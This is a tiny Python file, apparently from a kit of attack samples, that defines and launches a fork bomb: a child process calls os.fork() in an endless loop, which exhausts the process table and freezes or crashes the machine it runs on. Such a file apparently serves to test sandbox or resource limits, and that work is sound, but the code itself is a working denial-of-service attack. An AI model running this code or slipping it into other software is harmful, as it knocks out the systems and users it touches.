"""Forks without end."""

import os

from kit import attack


def fork():
    if os.fork() == 0:
        while True:
            os.fork()


attack(fork)
